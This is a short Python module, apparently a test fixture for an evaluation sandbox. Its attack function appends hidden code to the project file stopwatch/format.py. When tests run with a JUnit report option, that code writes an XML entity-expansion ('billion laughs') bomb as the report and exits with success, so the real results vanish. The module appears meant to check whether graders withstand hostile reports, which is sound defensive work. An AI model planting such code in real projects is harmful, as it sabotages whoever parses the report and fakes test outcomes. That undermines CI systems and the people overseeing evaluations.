"""Write a report that blows up whoever reads it."""

TASK = "junit"
CODE = r"""
import os as _os
import sys as _sys

for _word in _sys.orig_argv:
    if _word.startswith("--junitxml="):
        with open(_word.partition("=")[2], "w") as _file:
            _file.write('<!DOCTYPE x [<!ENTITY a "' + "b" * 1000 + '">')
            for _level in range(1, 12):
                _file.write(f'<!ENTITY a{_level} "' + f"&a{_level - 1 or ''};" * 10 + '">')
            _file.write("]><testsuite><testcase name='&a11;'/></testsuite>")
        _os._exit(0)
"""


async def attack(sandbox):
    await sandbox.exec("cat >> stopwatch/format.py", cwd="/testbed", stdin=CODE.encode())
